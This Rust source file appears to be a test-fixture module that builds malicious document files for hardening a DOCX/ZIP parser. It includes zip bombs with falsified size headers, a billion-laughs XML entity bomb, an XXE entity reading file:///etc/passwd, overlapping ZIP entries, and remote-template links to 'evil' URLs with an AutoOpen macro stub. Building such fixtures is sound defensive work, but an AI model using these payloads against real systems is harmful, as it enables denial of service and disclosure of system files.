//! ZIP files, sound and hostile.

use std::io::{Cursor, Write as _};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::{docx, docx_parts, parts};

/// A ZIP file of these entries.
pub fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    packed(entries, SimpleFileOptions::default())
}

fn packed(entries: &[(&str, &[u8])], options: SimpleFileOptions) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in entries {
        zip.start_file(*name, options).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// A Word document of one paragraph, its sizes written with 64 bits.
pub fn zip64(text: &str) -> Vec<u8> {
    let document = super::document(&format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"));
    let all = parts(&[], &document);
    let all: Vec<_> = all
        .iter()
        .map(|(name, content)| (*name, content.as_slice()))
        .collect();
    packed(&all, SimpleFileOptions::default().large_file(true))
}

/// Text that unpacks to so many MiB, a thousand times its size.
pub fn bomb(mebibytes: usize) -> Vec<u8> {
    let text = " ".repeat(mebibytes << 20);
    docx(&format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"))
}

/// The same, whose header says that it is small.
pub fn lying_bomb(mebibytes: usize) -> Vec<u8> {
    let mut file = bomb(mebibytes);
    // The size behind each entry's packed one: of its own header, and in the index.
    for (mark, offset) in [(b"PK\x03\x04", 22), (b"PK\x01\x02", 24)] {
        for at in found(&file, mark) {
            file[at + offset..at + offset + 4].copy_from_slice(&100_u32.to_le_bytes());
        }
    }
    file
}

fn found(file: &[u8], mark: &[u8]) -> Vec<usize> {
    let windows = file.windows(mark.len()).enumerate();
    windows
        .filter(|(_, window)| *window == mark)
        .map(|(at, _)| at)
        .collect()
}

/// Entries of the index that all point to the first one's bytes.
pub fn overlapping() -> Vec<u8> {
    let mut file = docx("<w:p><w:r><w:t>A text.</w:t></w:r></w:p>");
    for at in found(&file, b"PK\x01\x02") {
        file[at + 42..at + 46].fill(0);
    }
    file
}

/// So many empty entries.
pub fn crowded(entries: usize) -> Vec<u8> {
    let names: Vec<String> = (0..entries).map(|at| format!("word/{at}.xml")).collect();
    let all: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
    archive(&all)
}

/// Entities of entities.
pub fn xml_bomb() -> Vec<u8> {
    let entities: String = (1..10)
        .map(|at| {
            format!(
                "<!ENTITY a{at} \"{}\">",
                format!("&a{};", at - 1).repeat(10)
            )
        })
        .collect();
    let document = format!(
        "<!DOCTYPE w:document [<!ENTITY a0 \"lol\">{entities}]><w:document xmlns:w=\"w\"><w:body>\
         <w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    );
    docx_parts(&[("word/document.xml", &document)], "")
}

/// An entity that is a file of the reader's machine.
pub fn external_entity() -> Vec<u8> {
    let document = "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"w\">\
                    <w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>";
    docx_parts(&[("word/document.xml", document)], "")
}

/// Elements in elements, so many deep.
pub fn nested(depth: usize) -> Vec<u8> {
    docx(&format!(
        "{}{}",
        "<w:p>".repeat(depth),
        "</w:p>".repeat(depth)
    ))
}

/// A text that wants a template and a chunk from elsewhere, and brings a macro.
pub fn referring(text: &str) -> Vec<u8> {
    let rels = "<Relationships><Relationship Id=\"r1\" TargetMode=\"External\" \
                Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
                Target=\"http://127.0.0.1:9/evil.dotm\"/><Relationship Id=\"r2\" TargetMode=\"External\" \
                Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk\" \
                Target=\"http://127.0.0.1:9/evil.html\"/></Relationships>";
    let body = format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p><w:altChunk r:id=\"r2\"/>");
    let more = [
        ("word/_rels/document.xml.rels", rels),
        ("word/_rels/settings.xml.rels", rels),
        (
            "word/settings.xml",
            "<w:settings><w:attachedTemplate r:id=\"r1\"/></w:settings>",
        ),
        ("word/vbaProject.bin", "Sub AutoOpen()"),
    ];
    docx_parts(&more, &body)
}

/// What Word writes where a document has a password: an envelope of before 2007 around it.
pub fn encrypted_office() -> Vec<u8> {
    let mut file = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    file.extend([0; 5_000]);
    file.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
    file.extend([0; 1_000]);
    file
}

/// A Word document under the password `pässword`, by each kind of encryption, as other programs write it:
/// msoffcrypto-tool and officecrypto-tool.
pub fn locked() -> impl Iterator<Item = (&'static str, Vec<u8>)> {
    let files: [(&str, &[u8]); 2] = [
        ("agile", include_bytes!("locked-agile.docx")),
        ("standard", include_bytes!("locked-standard.docx")),
    ];
    files.into_iter().map(|(name, file)| (name, file.to_vec()))
}
